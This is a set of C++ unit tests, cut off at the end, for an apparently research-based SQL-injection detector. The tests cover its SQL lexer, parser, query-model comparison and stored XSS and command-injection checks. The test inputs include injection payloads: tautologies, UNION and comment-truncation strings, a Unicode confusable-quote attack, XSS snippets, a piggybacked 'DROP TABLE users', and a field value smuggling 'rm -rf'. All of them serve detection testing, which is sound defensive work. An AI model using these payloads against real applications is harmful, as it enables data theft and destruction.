TEST(Lexer, UnterminatedBlockCommentThrows) {
  EXPECT_THROW(lex("SELECT 1 /* oops"), LexError);
}

TEST(Lexer, ConditionalCommentBodyIsExecuted) {
  // /*!UNION*/ lexes as the UNION keyword — the MySQL mismatch.
  auto toks = tokens_of("1 /*!UNION*/ 2");
  ASSERT_GE(toks.size(), 4u);
  EXPECT_TRUE(toks[1].is_keyword("UNION"));
}

TEST(Lexer, ConditionalCommentVersionPrefix) {
  auto toks = tokens_of("/*!50000 SELECT*/ 1");
  EXPECT_TRUE(toks[0].is_keyword("SELECT"));
}

TEST(Lexer, UnterminatedConditionalCommentThrows) {
  EXPECT_THROW(lex("SELECT /*!UNION 1"), LexError);
}

TEST(Lexer, IntegerAndDecimal) {
  auto toks = tokens_of("42 3.5 .25 1e3 2.5e-2");
  EXPECT_EQ(toks[0].type, TokenType::kInteger);
  EXPECT_EQ(toks[0].int_value, 42);
  EXPECT_EQ(toks[1].type, TokenType::kDecimal);
  EXPECT_DOUBLE_EQ(toks[1].dbl_value, 3.5);
  EXPECT_DOUBLE_EQ(toks[2].dbl_value, 0.25);
  EXPECT_DOUBLE_EQ(toks[3].dbl_value, 1000.0);
  EXPECT_DOUBLE_EQ(toks[4].dbl_value, 0.025);
}

TEST(Lexer, HexLiteral) {
  auto toks = tokens_of("0x1F");
  EXPECT_EQ(toks[0].type, TokenType::kInteger);
  EXPECT_EQ(toks[0].int_value, 31);
}

TEST(Lexer, MalformedHexThrows) { EXPECT_THROW(lex("0x"), LexError); }

TEST(Lexer, BacktickIdentifier) {
  auto toks = tokens_of("`weird table`");
  EXPECT_EQ(toks[0].type, TokenType::kIdentifier);
  EXPECT_EQ(toks[0].text, "weird table");
}

TEST(Lexer, BacktickKeywordStaysIdentifier) {
  // `select` is an identifier, not a keyword.
  auto toks = tokens_of("`select`");
  EXPECT_EQ(toks[0].type, TokenType::kIdentifier);
  EXPECT_EQ(toks[0].text, "select");
}

TEST(Lexer, MultiCharOperators) {
  auto toks = tokens_of("<= >= <> != <=> || &&");
  EXPECT_EQ(toks[0].text, "<=");
  EXPECT_EQ(toks[1].text, ">=");
  EXPECT_EQ(toks[2].text, "<>");
  EXPECT_EQ(toks[3].text, "!=");
  EXPECT_EQ(toks[4].text, "<=>");
  EXPECT_EQ(toks[5].text, "||");
  EXPECT_EQ(toks[6].text, "&&");
}

TEST(Lexer, Placeholder) {
  auto toks = tokens_of("id = ?");
  EXPECT_EQ(toks[2].type, TokenType::kPlaceholder);
}

TEST(Lexer, UnexpectedCharacterThrows) {
  EXPECT_THROW(lex("SELECT @"), LexError);
}

TEST(Lexer, PositionTracking) {
  auto toks = tokens_of("SELECT abc");
  EXPECT_EQ(toks[0].pos, 0u);
  EXPECT_EQ(toks[1].pos, 7u);
}

TEST(Lexer, CommentInjectionTruncation) {
  // The classic "payload' -- " shape after embedding: everything after the
  // comment marker is gone, including a trailing external-ID comment.
  LexResult r = lex("SELECT * FROM t WHERE a = 'x'-- ' AND b = 1 /* ID:x */");
  bool has_b = false;
  for (const auto& t : r.tokens) {
    if (t.type == TokenType::kIdentifier && t.text == "b") has_b = true;
  }
  EXPECT_FALSE(has_b);
  // The block comment never materializes: it was inside the -- comment.
  ASSERT_EQ(r.comments.size(), 1u);
  EXPECT_EQ(r.comments[0].kind, Comment::Kind::kDashDash);
}

}  // namespace
}  // namespace septic::sql

#include "sqlcore/parser.h"

#include <gtest/gtest.h>

namespace septic::sql {
namespace {

SelectStmt& as_select(Statement& s) { return *std::get<SelectPtr>(s); }

TEST(ParseSelect, Minimal) {
  ParsedQuery q = parse("SELECT 1");
  auto& sel = as_select(q.statement);
  ASSERT_EQ(sel.items.size(), 1u);
  EXPECT_TRUE(sel.from.empty());
  EXPECT_EQ(sel.items[0].expr->kind, ExprKind::kLiteral);
}

TEST(ParseSelect, StarFromWhere) {
  ParsedQuery q =
      parse("SELECT * FROM tickets WHERE reservID = 'X' AND creditCard = 1");
  auto& sel = as_select(q.statement);
  EXPECT_TRUE(sel.items[0].star);
  ASSERT_EQ(sel.from.size(), 1u);
  EXPECT_EQ(sel.from[0].name, "tickets");
  ASSERT_TRUE(sel.where);
  EXPECT_EQ(sel.where->op, "AND");
}

TEST(ParseSelect, ColumnListAndAliases) {
  ParsedQuery q = parse("SELECT a, b AS bee, t.c cee FROM t");
  auto& sel = as_select(q.statement);
  ASSERT_EQ(sel.items.size(), 3u);
  EXPECT_EQ(sel.items[1].alias, "bee");
  EXPECT_EQ(sel.items[2].alias, "cee");
  EXPECT_EQ(sel.items[2].expr->table, "t");
}

TEST(ParseSelect, JoinsInnerAndLeft) {
  ParsedQuery q = parse(
      "SELECT * FROM a JOIN b ON a.id = b.aid LEFT JOIN c ON b.id = c.bid");
  auto& sel = as_select(q.statement);
  ASSERT_EQ(sel.joins.size(), 2u);
  EXPECT_EQ(sel.joins[0].kind, Join::Kind::kInner);
  EXPECT_EQ(sel.joins[1].kind, Join::Kind::kLeft);
  EXPECT_EQ(sel.joins[1].table.name, "c");
}

TEST(ParseSelect, GroupByHavingOrderLimit) {
  ParsedQuery q = parse(
      "SELECT x, COUNT(*) FROM t GROUP BY x HAVING COUNT(*) > 2 "
      "ORDER BY x DESC LIMIT 10 OFFSET 5");
  auto& sel = as_select(q.statement);
  EXPECT_EQ(sel.group_by.size(), 1u);
  ASSERT_TRUE(sel.having);
  ASSERT_EQ(sel.order_by.size(), 1u);
  EXPECT_TRUE(sel.order_by[0].desc);
  EXPECT_EQ(sel.limit, 10);
  EXPECT_EQ(sel.offset, 5);
}

TEST(ParseSelect, MySqlLimitCommaForm) {
  ParsedQuery q = parse("SELECT * FROM t LIMIT 5, 10");
  auto& sel = as_select(q.statement);
  EXPECT_EQ(sel.offset, 5);
  EXPECT_EQ(sel.limit, 10);
}

TEST(ParseSelect, UnionChain) {
  ParsedQuery q = parse("SELECT a FROM t UNION SELECT b FROM u UNION ALL "
                        "SELECT c FROM v");
  auto& sel = as_select(q.statement);
  ASSERT_EQ(sel.unions.size(), 2u);
  EXPECT_FALSE(sel.unions[0].all);
  EXPECT_TRUE(sel.unions[1].all);
}

TEST(ParseSelect, Distinct) {
  ParsedQuery q = parse("SELECT DISTINCT a FROM t");
  EXPECT_TRUE(as_select(q.statement).distinct);
}

TEST(ParseExpr, PrecedenceOrAndNot) {
  // a OR b AND NOT c  ==  a OR (b AND (NOT c))
  ParsedQuery q = parse("SELECT * FROM t WHERE a OR b AND NOT c");
  auto& where = *as_select(q.statement).where;
  EXPECT_EQ(where.op, "OR");
  EXPECT_EQ(where.children[1]->op, "AND");
  EXPECT_EQ(where.children[1]->children[1]->op, "NOT");
}

TEST(ParseExpr, ArithmeticPrecedence) {
  // 1 + 2 * 3 parses as 1 + (2 * 3)
  ParsedQuery q = parse("SELECT 1 + 2 * 3");
  auto& e = *as_select(q.statement).items[0].expr;
  EXPECT_EQ(e.op, "+");
  EXPECT_EQ(e.children[1]->op, "*");
}

TEST(ParseExpr, NotEqualsNormalizedToAngle) {
  ParsedQuery q = parse("SELECT * FROM t WHERE a != 1");
  EXPECT_EQ(as_select(q.statement).where->op, "<>");
}

TEST(ParseExpr, InListAndNegation) {
  ParsedQuery q = parse("SELECT * FROM t WHERE a IN (1, 2, 3) AND b NOT IN "
                        "('x')");
  auto& where = *as_select(q.statement).where;
  EXPECT_EQ(where.children[0]->kind, ExprKind::kIn);
  EXPECT_FALSE(where.children[0]->negated);
  EXPECT_EQ(where.children[0]->children.size(), 4u);  // lhs + 3
  EXPECT_TRUE(where.children[1]->negated);
}

TEST(ParseExpr, BetweenAndIsNull) {
  ParsedQuery q = parse(
      "SELECT * FROM t WHERE a BETWEEN 1 AND 10 AND b IS NOT NULL");
  auto& where = *as_select(q.statement).where;
  EXPECT_EQ(where.children[0]->kind, ExprKind::kBetween);
  EXPECT_EQ(where.children[1]->kind, ExprKind::kIsNull);
  EXPECT_TRUE(where.children[1]->negated);
}

TEST(ParseExpr, LikeAndNotLike) {
  ParsedQuery q =
      parse("SELECT * FROM t WHERE a LIKE '%x%' AND b NOT LIKE 'y_'");
  auto& where = *as_select(q.statement).where;
  EXPECT_EQ(where.children[0]->op, "LIKE");
  EXPECT_FALSE(where.children[0]->negated);
  EXPECT_TRUE(where.children[1]->negated);
}

TEST(ParseExpr, FunctionCallsNormalizedUpper) {
  ParsedQuery q = parse("SELECT concat(a, 'x'), count(*) FROM t");
  auto& sel = as_select(q.statement);
  EXPECT_EQ(sel.items[0].expr->func_name, "CONCAT");
  EXPECT_EQ(sel.items[1].expr->func_name, "COUNT");
}

TEST(ParseExpr, NegativeLiteralsFolded) {
  ParsedQuery q = parse("SELECT -5, -2.5");
  auto& sel = as_select(q.statement);
  EXPECT_EQ(sel.items[0].expr->kind, ExprKind::kLiteral);
  EXPECT_EQ(sel.items[0].expr->literal.as_int(), -5);
  EXPECT_DOUBLE_EQ(sel.items[1].expr->literal.as_double(), -2.5);
}

TEST(ParseExpr, QuotedNumberKeepsQuotedFlag) {
  ParsedQuery q = parse("SELECT * FROM t WHERE a = '123'");
  auto& where = *as_select(q.statement).where;
  EXPECT_TRUE(where.children[1]->literal_was_quoted);
}

TEST(ParseExpr, Placeholders) {
  ParsedQuery q = parse("SELECT * FROM t WHERE a = ? AND b = ?");
  auto& where = *as_select(q.statement).where;
  EXPECT_EQ(where.children[0]->children[1]->kind, ExprKind::kPlaceholder);
  EXPECT_EQ(where.children[0]->children[1]->placeholder_index, 0);
  EXPECT_EQ(where.children[1]->children[1]->placeholder_index, 1);
}

TEST(ParseInsert, MultiRowWithColumns) {
  ParsedQuery q = parse(
      "INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y')");
  auto& ins = std::get<InsertStmt>(q.statement);
  EXPECT_EQ(ins.table, "t");
  ASSERT_EQ(ins.columns.size(), 2u);
  ASSERT_EQ(ins.rows.size(), 2u);
  EXPECT_EQ(ins.rows[1][0]->literal.as_int(), 2);
}

TEST(ParseInsert, NoColumnList) {
  ParsedQuery q = parse("INSERT INTO t VALUES (1, 2, 3)");
  auto& ins = std::get<InsertStmt>(q.statement);
  EXPECT_TRUE(ins.columns.empty());
  EXPECT_EQ(ins.rows[0].size(), 3u);
}

TEST(ParseUpdate, AssignmentsAndWhere) {
  ParsedQuery q = parse("UPDATE t SET a = 1, b = b + 1 WHERE id = 7");
  auto& up = std::get<UpdateStmt>(q.statement);
  ASSERT_EQ(up.assignments.size(), 2u);
  EXPECT_EQ(up.assignments[1].value->op, "+");
  ASSERT_TRUE(up.where);
}

TEST(ParseDelete, Basic) {
  ParsedQuery q = parse("DELETE FROM t WHERE id = 1");
  auto& del = std::get<DeleteStmt>(q.statement);
  EXPECT_EQ(del.table, "t");
  ASSERT_TRUE(del.where);
}

TEST(ParseCreate, ColumnsAndConstraints) {
  ParsedQuery q = parse(
      "CREATE TABLE IF NOT EXISTS t (id INT PRIMARY KEY AUTO_INCREMENT, "
      "name VARCHAR(64) NOT NULL, bal DOUBLE DEFAULT 1.5, note TEXT "
      "DEFAULT 'x')");
  auto& ct = std::get<CreateTableStmt>(q.statement);
  EXPECT_TRUE(ct.if_not_exists);
  ASSERT_EQ(ct.columns.size(), 4u);
  EXPECT_TRUE(ct.columns[0].primary_key);
  EXPECT_TRUE(ct.columns[0].auto_increment);
  EXPECT_TRUE(ct.columns[1].not_null);
  ASSERT_TRUE(ct.columns[2].default_value);
  EXPECT_DOUBLE_EQ(ct.columns[2].default_value->as_double(), 1.5);
  EXPECT_EQ(ct.columns[3].default_value->as_string(), "x");
}

TEST(ParseDrop, IfExists) {
  ParsedQuery q = parse("DROP TABLE IF EXISTS t");
  auto& d = std::get<DropTableStmt>(q.statement);
  EXPECT_TRUE(d.if_exists);
  EXPECT_EQ(d.table, "t");
}

TEST(ParseErrors, TrailingGarbage) {
  EXPECT_THROW(parse("SELECT 1 SELECT 2"), ParseError);
}

TEST(ParseErrors, MultiStatementRejected) {
  // mysql_query-style single-statement interface: piggybacked statements
  // are a syntax error, not a second statement.
  EXPECT_THROW(parse("SELECT 1; DROP TABLE users"), ParseError);
}

TEST(ParseErrors, MissingFrom) {
  EXPECT_THROW(parse("SELECT * FROM"), ParseError);
}

TEST(ParseErrors, BadInsert) {
  EXPECT_THROW(parse("INSERT INTO t VALUE (1)"), ParseError);
}

TEST(ParseErrors, EmptyInput) { EXPECT_THROW(parse(""), ParseError); }

TEST(ParseTrailingSemicolonOk, Accepted) {
  EXPECT_NO_THROW(parse("SELECT 1;"));
}

TEST(CommentsCaptured, ExternalIdComment) {
  ParsedQuery q = parse("/* ID:app:route-1 */ SELECT 1");
  ASSERT_EQ(q.comments.size(), 1u);
  EXPECT_EQ(q.comments[0].body, " ID:app:route-1 ");
}

// Printing a parsed statement and re-parsing it must yield the same SQL
// (fixed point after one round).
class ToSqlRoundTrip : public ::testing::TestWithParam<const char*> {};

TEST_P(ToSqlRoundTrip, Stable) {
  ParsedQuery q1 = parse(GetParam());
  std::string printed = statement_to_sql(q1.statement);
  ParsedQuery q2 = parse(printed);
  EXPECT_EQ(statement_to_sql(q2.statement), printed) << printed;
}

INSTANTIATE_TEST_SUITE_P(
    Statements, ToSqlRoundTrip,
    ::testing::Values(
        "SELECT 1",
        "SELECT * FROM t WHERE a = 'x' AND b = 2",
        "SELECT a, b AS bee FROM t ORDER BY a DESC LIMIT 3",
        "SELECT x, COUNT(*) FROM t GROUP BY x HAVING COUNT(*) > 1",
        "SELECT * FROM a JOIN b ON a.id = b.aid WHERE a.v IN (1, 2)",
        "SELECT a FROM t UNION ALL SELECT b FROM u",
        "SELECT * FROM t WHERE s LIKE '%x%' OR n BETWEEN 1 AND 5",
        "INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'it''s')",
        "UPDATE t SET a = a + 1 WHERE id = 3",
        "DELETE FROM t WHERE id IS NULL",
        "CREATE TABLE t (id INT PRIMARY KEY, s TEXT NOT NULL)",
        "DROP TABLE IF EXISTS t"));

}  // namespace
}  // namespace septic::sql

#include "septic/detector.h"

#include <gtest/gtest.h>

#include "common/unicode.h"
#include "sqlcore/parser.h"

namespace septic::core {
namespace {

sql::ItemStack stack_of(std::string_view q) {
  return sql::build_item_stack(
      sql::parse(common::server_charset_convert(q)).statement);
}

QueryModel model_of(std::string_view q) {
  return make_query_model(stack_of(q));
}

const char* kTicketQuery =
    "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234";

TEST(CompareQsQm, BenignMatch) {
  QueryModel qm = model_of(kTicketQuery);
  SqliVerdict v = compare_qs_qm(
      stack_of("SELECT * FROM tickets WHERE reservID = 'OTHER9' AND "
               "creditCard = 9999"),
      qm);
  EXPECT_FALSE(v.attack);
  EXPECT_EQ(v.step, SqliStep::kNone);
}

TEST(CompareQsQm, StructuralAttackStep1) {
  QueryModel qm = model_of(kTicketQuery);
  // The paper's Figure 3 second-order attack.
  SqliVerdict v = compare_qs_qm(
      stack_of("SELECT * FROM tickets WHERE reservID = "
               "'ID34FG\xca\xbc-- ' AND creditCard = 0"),
      qm);
  EXPECT_TRUE(v.attack);
  EXPECT_EQ(v.step, SqliStep::kStructural);
  EXPECT_NE(v.detail.find("node count mismatch"), std::string::npos);
}

TEST(CompareQsQm, MimicryAttackStep2) {
  QueryModel qm = model_of(kTicketQuery);
  // The paper's Figure 4 mimicry: same node count, INT where FIELD was.
  SqliVerdict v = compare_qs_qm(
      stack_of("SELECT * FROM tickets WHERE reservID = 'ID34FG' AND 1 = 1"),
      qm);
  EXPECT_TRUE(v.attack);
  EXPECT_EQ(v.step, SqliStep::kSyntactic);
  EXPECT_NE(v.detail.find("INT_ITEM"), std::string::npos);
  EXPECT_NE(v.detail.find("creditCard"), std::string::npos);
}

TEST(CompareQsQm, DataTypeSwapIsSyntacticAttack) {
  // Model learned an INT in that position; a quoted string is a mismatch.
  QueryModel qm = model_of("SELECT a FROM t WHERE b = 5");
  SqliVerdict v = compare_qs_qm(stack_of("SELECT a FROM t WHERE b = 'x'"), qm);
  EXPECT_TRUE(v.attack);
  EXPECT_EQ(v.step, SqliStep::kSyntactic);
}

TEST(CompareQsQm, FieldNameChangeIsSyntacticAttack) {
  QueryModel qm = model_of("SELECT a FROM t WHERE b = 5");
  SqliVerdict v = compare_qs_qm(stack_of("SELECT a FROM t WHERE c = 5"), qm);
  EXPECT_TRUE(v.attack);
  EXPECT_EQ(v.step, SqliStep::kSyntactic);
}

TEST(CompareQsQm, TautologyOrInjectionIsStructural) {
  QueryModel qm = model_of("SELECT a FROM t WHERE b = 'x'");
  SqliVerdict v = compare_qs_qm(
      stack_of("SELECT a FROM t WHERE b = 'x' OR 1 = 1"), qm);
  EXPECT_TRUE(v.attack);
  EXPECT_EQ(v.step, SqliStep::kStructural);
}

TEST(CompareQsQm, UnionInjectionIsStructural) {
  QueryModel qm = model_of("SELECT a FROM t WHERE b = 1");
  SqliVerdict v = compare_qs_qm(
      stack_of("SELECT a FROM t WHERE b = 1 UNION SELECT c FROM u"), qm);
  EXPECT_TRUE(v.attack);
  EXPECT_EQ(v.step, SqliStep::kStructural);
}

TEST(DetectSqli, AnyMatchingModelMeansBenign) {
  std::vector<QueryModel> models = {
      model_of("SELECT a FROM t WHERE b = 1"),
      model_of("SELECT a FROM t WHERE b = 'x'"),
  };
  EXPECT_FALSE(detect_sqli(stack_of("SELECT a FROM t WHERE b = 'y'"), models)
                   .attack);
  EXPECT_FALSE(
      detect_sqli(stack_of("SELECT a FROM t WHERE b = 42"), models).attack);
}

TEST(DetectSqli, AllModelsFailReportsClosest) {
  std::vector<QueryModel> models = {
      model_of("SELECT a FROM t WHERE b = 1"),          // 6 nodes
      model_of("SELECT a FROM t WHERE b = 1 AND c = 2") // 10 nodes
  };
  // Attack with 10 nodes but wrong element: syntactic against model 2.
  SqliVerdict v = detect_sqli(
      stack_of("SELECT a FROM t WHERE b = 1 AND 2 = 2"), models);
  EXPECT_TRUE(v.attack);
  EXPECT_EQ(v.step, SqliStep::kSyntactic);
}

TEST(DetectSqli, NoModelsMeansNoVerdict) {
  EXPECT_FALSE(detect_sqli(stack_of("SELECT 1"), {}).attack);
}

TEST(StoredDetection, OnlyInsertAndUpdateAreChecked) {
  auto plugins = make_default_plugins();
  auto select_stmt =
      sql::parse("SELECT a FROM t WHERE b = '<script>x</script>'").statement;
  EXPECT_FALSE(detect_stored_injection(select_stmt, plugins).attack);

  auto insert_stmt =
      sql::parse("INSERT INTO t (a) VALUES ('<script>x</script>')").statement;
  StoredVerdict v = detect_stored_injection(insert_stmt, plugins);
  EXPECT_TRUE(v.attack);
  EXPECT_EQ(v.plugin, "XSS");
}

TEST(StoredDetection, UpdateChecked) {
  auto plugins = make_default_plugins();
  auto stmt = sql::parse("UPDATE t SET bio = '<img src=x onerror=alert(1)>' "
                         "WHERE id = 1")
                  .statement;
  StoredVerdict v = detect_stored_injection(stmt, plugins);
  EXPECT_TRUE(v.attack);
  EXPECT_EQ(v.plugin, "XSS");
}

TEST(StoredDetection, BenignInsertPasses) {
  auto plugins = make_default_plugins();
  auto stmt = sql::parse("INSERT INTO t (a, b) VALUES ('hello world', 42)")
                  .statement;
  EXPECT_FALSE(detect_stored_injection(stmt, plugins).attack);
}

TEST(StoredDetection, ReportsOffendingValue) {
  auto plugins = make_default_plugins();
  auto stmt =
      sql::parse("INSERT INTO t (a, b) VALUES ('ok', 'x; rm -rf /tmp/y')")
          .statement;
  StoredVerdict v = detect_stored_injection(stmt, plugins);
  EXPECT_TRUE(v.attack);
  EXPECT_EQ(v.plugin, "OSCI");
  EXPECT_EQ(v.offending_value, "x; rm -rf /tmp/y");
}

TEST(StoredDetection, NumericValuesIgnored) {
  auto plugins = make_default_plugins();
  auto stmt = sql::parse("INSERT INTO t (a) VALUES (12345)").statement;
  EXPECT_FALSE(detect_stored_injection(stmt, plugins).attack);
}

}  // namespace
}  // namespace septic::core

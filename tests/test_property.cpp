// Property-style sweeps over generated inputs: the invariants the demo
// depends on, checked across many random instances rather than a handful
// of hand-picked examples.
#include <gtest/gtest.h>

#include <memory>

#include "attacks/corpus.h"
#include "common/unicode.h"
#include "engine/database.h"
#include "septic/query_model.h"
#include "septic/septic.h"
#include "sqlcore/parser.h"
#include "web/apps/tickets.h"
#include "web/apps/waspmon.h"
#include "web/proxy.h"
#include "web/stack.h"
#include "web/trainer.h"

namespace septic {
namespace {

// Property 1: after training, randomized benign form submissions are never
// flagged — for any app and many seeds.
struct BenignSweepParam {
  const char* app;
  uint64_t seed;
};

class BenignNeverFlagged : public ::testing::TestWithParam<BenignSweepParam> {
};

TEST_P(BenignNeverFlagged, RandomFormInputsPass) {
  const auto& param = GetParam();
  engine::Database db;
  std::unique_ptr<web::App> app;
  if (std::string(param.app) == "tickets") {
    app = std::make_unique<web::apps::TicketsApp>();
  } else {
    app = std::make_unique<web::apps::WaspMonApp>();
  }
  app->install(db);
  auto septic = std::make_shared<core::Septic>();
  db.set_interceptor(septic);
  web::WebStack stack(*app, db);

  septic->set_mode(core::Mode::kTraining);
  web::train_on_application(stack);
  septic->set_mode(core::Mode::kPrevention);

  for (const auto& request :
       attacks::random_benign_requests(param.app, param.seed, 40)) {
    web::Response r = stack.handle(request);
    EXPECT_FALSE(r.blocked())
        << param.app << " seed=" << param.seed << " " << request.to_string();
  }
  EXPECT_EQ(septic->stats().sqli_detected, 0u);
}

INSTANTIATE_TEST_SUITE_P(
    Sweep, BenignNeverFlagged,
    ::testing::Values(BenignSweepParam{"tickets", 1},
                      BenignSweepParam{"tickets", 42},
                      BenignSweepParam{"tickets", 20260707},
                      BenignSweepParam{"waspmon", 1},
                      BenignSweepParam{"waspmon", 42},
                      BenignSweepParam{"waspmon", 20260707}),
    [](const auto& info) {
      return std::string(info.param.app) + "_" +
             std::to_string(info.param.seed);
    });

// Property 2: model derivation is deterministic and idempotent, and the
// model always matches the structure it was derived from.
class ModelInvariants : public ::testing::TestWithParam<const char*> {};

TEST_P(ModelInvariants, DeriveCompareRoundTrip) {
  sql::ItemStack qs =
      sql::build_item_stack(sql::parse(GetParam()).statement);
  core::QueryModel qm1 = core::make_query_model(qs);
  core::QueryModel qm2 = core::make_query_model(qs);
  EXPECT_EQ(qm1, qm2);
  // A QS always matches its own model.
  EXPECT_FALSE(core::compare_qs_qm(qs, qm1).attack);
  // Serialization round-trips.
  core::QueryModel parsed;
  ASSERT_TRUE(core::QueryModel::deserialize(qm1.serialize(), parsed));
  EXPECT_EQ(parsed, qm1);
  EXPECT_FALSE(core::compare_qs_qm(qs, parsed).attack);
}

INSTANTIATE_TEST_SUITE_P(
    Queries, ModelInvariants,
    ::testing::Values(
        "SELECT 1",
        "SELECT * FROM t WHERE a = 'x'",
        "SELECT a, b FROM t WHERE c = 1 AND d = 'y' OR e < 3",
        "SELECT COUNT(*) FROM t GROUP BY a HAVING COUNT(*) > 2",
        "SELECT a FROM t1 JOIN t2 ON t1.x = t2.y WHERE t2.z LIKE '%q%'",
        "INSERT INTO t (a, b, c) VALUES ('x', 2, 3.5)",
        "INSERT INTO t (a) VALUES (1), (2), (3)",
        "UPDATE t SET a = 'v', b = b + 1 WHERE id IN (1, 2)",
        "DELETE FROM t WHERE x BETWEEN 1 AND 9",
        "SELECT a FROM t ORDER BY a DESC LIMIT 3 OFFSET 1",
        "SELECT a FROM t UNION ALL SELECT b FROM u"));

// Property 3: any single-condition value change never alters the model;
// any structural edit always does.
TEST(ModelSensitivity, DataChangesNeverStructureAlwaysDetected) {
  const char* base = "SELECT a FROM t WHERE b = 'seed' AND c = 10";
  core::QueryModel qm = core::make_query_model(
      sql::build_item_stack(sql::parse(base).statement));

  const char* data_variants[] = {
      "SELECT a FROM t WHERE b = 'other' AND c = 10",
      "SELECT a FROM t WHERE b = '' AND c = 0",
      "SELECT a FROM t WHERE b = 'O''Brien' AND c = -5",
      "SELECT a FROM t WHERE b = 'x y z' AND c = 99999",
  };
  for (const char* v : data_variants) {
    sql::ItemStack qs = sql::build_item_stack(sql::parse(v).statement);
    EXPECT_FALSE(core::compare_qs_qm(qs, qm).attack) << v;
  }

  const char* structural_variants[] = {
      "SELECT a FROM t WHERE b = 'x'",                       // dropped cond
      "SELECT a FROM t WHERE b = 'x' AND c = 10 AND 1 = 1",  // added cond
      "SELECT a FROM t WHERE b = 'x' OR c = 10",             // AND -> OR
      "SELECT a FROM t WHERE b = 'x' AND d = 10",            // field swap
      "SELECT a FROM t WHERE b = 'x' AND c = 'ten'",         // type swap
      "SELECT a FROM t WHERE b = 'x' AND c < 10",            // operator swap
  };
  for (const char* v : structural_variants) {
    sql::ItemStack qs = sql::build_item_stack(sql::parse(v).statement);
    EXPECT_TRUE(core::compare_qs_qm(qs, qm).attack) << v;
  }
}

// Property 4: the charset conversion is idempotent, and output never
// contains a confusable the converter knows about.
class CharsetIdempotence : public ::testing::TestWithParam<const char*> {};

TEST_P(CharsetIdempotence, ConvertTwiceEqualsOnce) {
  std::string once = common::server_charset_convert(GetParam());
  EXPECT_EQ(common::server_charset_convert(once), once);
  EXPECT_FALSE(common::has_confusable_quote(once));
}

INSTANTIATE_TEST_SUITE_P(
    Inputs, CharsetIdempotence,
    ::testing::Values("plain", "ID34FG\xca\xbc-- ",
                      "1\xef\xbc\x9d" "1", "mixed \xe2\x80\x99 and '",
                      "\xef\xbc\x88nested\xef\xbc\x89",
                      "caf\xc3\xa9 stays caf\xc3\xa9"));

// Property 5: proxy fingerprints are invariant under literal changes and
// whitespace, for a spread of query shapes.
class FingerprintInvariance : public ::testing::TestWithParam<const char*> {};

TEST_P(FingerprintInvariance, LiteralSubstitutionStable) {
  std::string q = GetParam();
  std::string fp1 = web::QueryFirewall::fingerprint(q);
  // Replace literal payloads: fingerprint of a mutated-literal query is
  // identical.
  std::string mutated = q;
  size_t quote = mutated.find('\'');
  if (quote != std::string::npos) {
    size_t end = mutated.find('\'', quote + 1);
    if (end != std::string::npos) {
      mutated = mutated.substr(0, quote + 1) + "DIFFERENT" +
                mutated.substr(end);
    }
  }
  EXPECT_EQ(web::QueryFirewall::fingerprint(mutated), fp1) << mutated;
  // Whitespace immaterial.
  std::string spaced = std::string("  ") + q + "   ";
  EXPECT_EQ(web::QueryFirewall::fingerprint(spaced), fp1);
}

INSTANTIATE_TEST_SUITE_P(
    Queries, FingerprintInvariance,
    ::testing::Values("SELECT * FROM t WHERE a = 'x'",
                      "INSERT INTO t (a, b) VALUES ('v', 7)",
                      "UPDATE t SET a = 'w' WHERE id = 3",
                      "DELETE FROM t WHERE name = 'gone'"));

// Property 6: every attack in the corpus carries either a confusable
// codepoint, a stored-payload marker, or plain-ASCII injection syntax —
// i.e. the corpus stays honest about which detection layer it probes.
TEST(CorpusSanity, EveryCaseTargetsAKnownApp) {
  for (const auto& attack : attacks::all_attacks()) {
    EXPECT_TRUE(attack.app == "tickets" || attack.app == "waspmon")
        << attack.id;
    EXPECT_FALSE(attack.name.empty());
    EXPECT_FALSE(attack.category.empty());
  }
}

TEST(CorpusSanity, IdsAreUnique) {
  auto attacks_list = attacks::all_attacks();
  std::set<std::string> ids;
  for (const auto& a : attacks_list) {
    EXPECT_TRUE(ids.insert(a.id).second) << "duplicate id " << a.id;
  }
}

TEST(CorpusSanity, RandomBenignGeneratorIsDeterministic) {
  auto a = attacks::random_benign_requests("waspmon", 7, 10);
  auto b = attacks::random_benign_requests("waspmon", 7, 10);
  ASSERT_EQ(a.size(), b.size());
  for (size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a[i].to_string(), b[i].to_string());
  }
  auto c = attacks::random_benign_requests("waspmon", 8, 10);
  bool any_diff = false;
  for (size_t i = 0; i < a.size(); ++i) {
    if (a[i].to_string() != c[i].to_string()) any_diff = true;
  }
  EXPECT_TRUE(any_diff);
}

}  // namespace
}  // namespace septic

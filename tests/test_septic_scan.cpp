// Unit tests for the septic-scan static analyzer: lexing, taint dataflow,
// the semantic-mismatch taxonomy, path-sensitive template extraction, and
// offline QM emission.
#include <gtest/gtest.h>

#include <algorithm>

#include "analysis/scanner.h"
#include "analysis/source_lexer.h"

namespace septic::analysis {
namespace {

// ------------------------------------------------------------------ lexer

TEST(SourceLexer, StripsCommentsDecodesStringsTracksLines) {
  auto toks = lex_cpp("a // gone\n/* gone\ntoo */ \"x\\n'\" 42\nb");
  ASSERT_EQ(toks.size(), 5u);  // a, string, 42, b, end
  EXPECT_TRUE(toks[0].is_ident("a"));
  EXPECT_EQ(toks[1].kind, TokKind::kString);
  EXPECT_EQ(toks[1].text, "x\n'");
  EXPECT_EQ(toks[2].kind, TokKind::kNumber);
  EXPECT_TRUE(toks[3].is_ident("b"));
  EXPECT_EQ(toks[3].line, 4);
  EXPECT_EQ(toks[4].kind, TokKind::kEnd);
}

TEST(SourceLexer, MultiCharOperatorsStayWhole) {
  auto toks = lex_cpp("a::b->c += d == e && f");
  std::vector<std::string> puncts;
  for (const Tok& t : toks) {
    if (t.kind == TokKind::kPunct) puncts.push_back(t.text);
  }
  EXPECT_EQ(puncts, (std::vector<std::string>{"::", "->", "+=", "==", "&&"}));
}

// --------------------------------------------------------------- dataflow

std::string wrap(const std::string& body) {
  return "Response Demo::handle(const Request& request, AppContext& ctx) "
         "{\n" +
         body + "\n  return Response::make_not_found();\n}\n";
}

ScanReport::AppEntry scan_body(const std::string& body,
                               core::QmStore& store) {
  return scan_source(wrap(body), "demo", "demo.cpp", store);
}

AppScan findings_of(const std::string& body) {
  core::QmStore store;
  return scan_body(body, store).scan;
}

bool has_class(const AppScan& scan, FindingClass k) {
  return std::any_of(scan.findings.begin(), scan.findings.end(),
                     [&](const Finding& f) { return f.klass == k; });
}

TEST(ScanDataflow, EscapedIntoQuotedContextIsClean) {
  AppScan s = findings_of(
